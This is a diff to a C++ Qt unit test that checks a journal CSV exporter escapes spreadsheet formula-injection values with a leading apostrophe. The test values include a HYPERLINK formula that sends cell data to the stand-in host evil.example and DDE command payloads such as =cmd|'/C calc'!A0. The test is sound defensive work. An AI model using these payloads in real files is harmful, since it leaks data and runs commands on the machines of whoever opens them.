@@ -166,7 +166,8 @@ private slots:
     }
 
     // Names with quotes, commas and line breaks come back whole through a strict reader, and
-    // through Python's csv module where it is installed.
+    // through Python's csv module where it is installed; names that a spreadsheet would run as
+    // formulas come back as text behind an apostrophe.
     void csvReadBack()
     {
         JournalBuilder j(at(21, 4));
@@ -180,7 +181,15 @@ private slots:
                          {{QStringLiteral("before"), QStringLiteral("Ben")}, {QStringLiteral("after"), QStringLiteral("Ben<star>")}}));
         j.append(j.entry(QStringLiteral("edit player"), 1, 8, QStringLiteral("Omaha"), QStringLiteral("Benny"),
                          {{QStringLiteral("before"), QStringLiteral("Ben<star>")}, {QStringLiteral("after"), QStringLiteral("Benny<star>")}}));
+        const QString link = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+        j.append(j.entry(QStringLiteral("add player"), 2, 9, link, QStringLiteral("+SUM(1+1)*cmd|"),
+                         {{QStringLiteral("position"), 0}}));
+        j.append(j.entry(QStringLiteral("add player"), 3, 10, QStringLiteral("@SUM(A1:A9)"), QStringLiteral("=cmd|'/C calc'!A0"),
+                         {{QStringLiteral("position"), 1}}));
+        j.append(j.entry(QStringLiteral("add player"), 4, 11, QStringLiteral("-1"), QStringLiteral("\tTab"),
+                         {{QStringLiteral("position"), 2}}));
         const QByteArray bytes = JournalCsv(Utc).document(j.entries);
+        QVERIFY(bytes.contains(R"x("'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'+SUM(1+1)*cmd|",added)x"));
 
         const QList<QStringList> expected{
             {"Time", "Game", "Player", "What happened", "Undone"},
@@ -188,6 +197,9 @@ private slots:
             {"2026-12-06 21:34:30", game, player, "deleted from place 1", "yes"},
             {"2026-12-06 21:34:30", "Omaha", "Ben", "star on", ""},
             {"2026-12-06 21:34:30", "Omaha", "Benny", "name changed from Ben to Benny", ""},
+            {"2026-12-06 21:34:30", "'" + link, "'+SUM(1+1)*cmd|", "added at place 1", ""},
+            {"2026-12-06 21:34:30", "'@SUM(A1:A9)", "'=cmd|'/C calc'!A0", "added at place 2", ""},
+            {"2026-12-06 21:34:30", "'-1", "'\tTab", "added at place 3", ""},
         };
         const std::optional<QList<QStringList>> read = readCsv(bytes);
         QVERIFY(read);
